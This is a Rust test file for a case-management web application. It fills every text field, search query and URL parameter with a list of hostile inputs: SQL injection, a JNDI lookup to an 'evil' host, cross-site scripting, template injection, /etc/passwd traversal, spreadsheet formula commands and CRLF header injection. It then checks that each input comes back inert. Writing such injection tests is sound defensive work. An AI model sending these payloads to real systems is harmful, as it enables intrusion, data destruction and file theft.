//! Fragments of SQL, pages, templates, papers and formulas in every text field of every form: taken as the letters they
//! are, or refused, and drawn as letters either way.

use super::World;
use crate::browser::Answer;
use crate::html;
use casefile::act::ActName;

const FRAGMENTS: [&str; 17] = [
    "' or '1'='1",
    "${jndi:ldap://evil/a}%s%n%x",
    "'; drop table event; --",
    "\" union select * from account --",
    "\"><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "<?xml-stylesheet href=\"/etc/passwd\"?>",
    "{{ 7*191 }}",
    "{% include \"/etc/passwd\" %}",
    "${7*191}#{7*191}<%= 7*191 %>",
    "#{7*191} #read(\"/etc/passwd\") $ x $ \\",
    "=HYPERLINK(\"http://evil\")",
    "@SUM(1+1)*cmd|'/c calc'+A0",
    "&#60;script&#62;%3Cscript%3E\\u003cscript",
    "a\r\nSet-Cookie: jinzhi=evil",
    "../../../etc/passwd",
];

/// What is wrong with a page on which `fragment` was typed.
fn wrong(answer: &Answer, fragment: &str) -> Option<String> {
    let page = &answer.html;
    let raw = fragment.contains(['<', '"']) && page.contains(fragment);
    let told = format!("{:?}", answer.headers);
    let ran = page.contains("1337") || page.contains("root:x");
    let broke = answer.status.is_server_error() || told.contains("jinzhi=evil");
    (raw || ran || broke).then(|| format!("{} {fragment:?}", answer.status))
}

/// The names of a page's fields that take words.
fn fields(page: &str) -> Vec<String> {
    let form = page.split_once("<main").map_or(page, |(_, main)| main);
    let tags = form.split('<').filter(|tag| {
        let typed = !["hidden", "checkbox", "radio", "file", "password", "submit"]
            .iter()
            .any(|kind| tag.contains(&format!("type=\"{kind}\"")));
        tag.starts_with("textarea ") || tag.starts_with("input ") && typed
    });
    tags.filter_map(|tag| Some(tag.split_once("name=\"")?.1.split('"').next()?.to_owned()))
        .collect()
}

#[tokio::test]
async fn every_text_field_takes_letters_as_letters() {
    let mut world = World::new().await;
    let mut pages = vec![
        ("收件岗", "/paper".to_owned()),
        ("收件岗", "/kin".into()),
        ("收件岗", world.filled("/kin/{kin}")),
        ("管理员", "/admin/people".into()),
        ("管理员", "/admin/institutions".into()),
        ("管理员", "/admin/calendars".into()),
        ("管理员", "/admin/login".into()),
        ("管理员", "/admin/retention".into()),
        ("申请人", "/me".into()),
    ];
    for act in ActName::ALL {
        for who in ["收件岗", "局长", "组长", "调查甲", "申请人", "市协调人"] {
            pages.push((who, format!("/cases/{{no}}/acts/{}", act.code())));
        }
    }
    let before = world.state().await;
    let (mut asked, mut faults) = (0, Vec::new());
    for (who, url) in pages {
        let url = world.filled(&url);
        let browser = world.browsers.get_mut(who).expect(who);
        let opened = browser.open(&url).await;
        let fields = fields(&opened.html);
        if opened.status.as_u16() != 200 || fields.is_empty() {
            continue;
        }
        for fragment in FRAGMENTS {
            // Drawn from a version long past, no act is done by it, and the page comes back with what was typed. Other
            // forms lack what is chosen on them.
            let mut typed = vec![("version", "1")];
            typed.extend(fields.iter().map(|field| (field.as_str(), fragment)));
            let answer = browser.send(&url, &typed).await;
            html::check_form(&url, &answer.html);
            asked += 1;
            faults.extend(wrong(&answer, fragment).map(|what| format!("{who} {url}: {what}")));
        }
    }
    assert!(faults.is_empty(), "{faults:#?}");
    assert!(asked > 500, "{asked} forms");
    assert_eq!(world.state().await, before, "something changed");
}

/// What a draft keeps and a search looks for comes back as it was typed.
#[tokio::test]
async fn kept_and_searched_fragments_stay_letters() {
    let mut world = World::new().await;
    let draft = world.filled("/apply/{draft}");
    let number = world.filled("{no}");
    let mut faults = Vec::new();
    for fragment in FRAGMENTS {
        // As somebody who searches by hand.
        let now = world.site.app.now();
        world.site.clock.set(base::Timestamp(now.0 + 5_000_000));
        let worker = world.browsers.get_mut("申请人").expect("the worker");
        for (step, field) in [("account", "account"), ("me", "phone"), ("household", "village")] {
            let url = format!("{draft}/{step}");
            let sent = worker.send(&url, &[(field, fragment)]).await;
            faults.extend(wrong(&sent, fragment).map(|what| format!("{step} sent: {what}")));
            let page = worker.open(&url).await;
            assert_eq!(page.status.as_u16(), 200, "{step} {fragment}");
            html::check_form(step, &page.html);
            faults.extend(wrong(&page, fragment).map(|what| format!("{step}: {what}")));
        }
        let query = form_urlencoded::byte_serialize(fragment.as_bytes()).collect::<String>();
        let clerk = world.browsers.get_mut("收件岗").expect("the clerk");
        for url in [
            format!("/cases?q={query}"),
            format!("/cases?q={query}&deep=1"),
            format!("/cases?order={query}&at={query}&state={query}&bureau={query}&page={query}&limit=99999999"),
            format!("/cases?unit={query}&kind={query}&due_from.year=9999&due_from.month=99"),
            format!("/cases/export?q={query}"),
            format!("/cases/{number}/evidence?left={query}&right={query}"),
            format!("/cases/{number}/acts/add-evidence?title={query}"),
            format!("/login?next={query}"),
        ] {
            let page = clerk.open(&url).await;
            let good = [200, 303, 422].contains(&page.status.as_u16());
            faults.extend((!good).then(|| format!("{url}: {}", page.status)));
            faults.extend(wrong(&page, fragment).map(|what| format!("{url}: {what}")));
        }
        let lead = world.browsers.get_mut("局长").expect("the lead");
        let page = lead.open(&format!("/figures?year={query}&by={query}")).await;
        faults.extend(wrong(&page, fragment).map(|what| format!("figures: {what}")));
    }
    assert!(faults.is_empty(), "{faults:#?}");
}
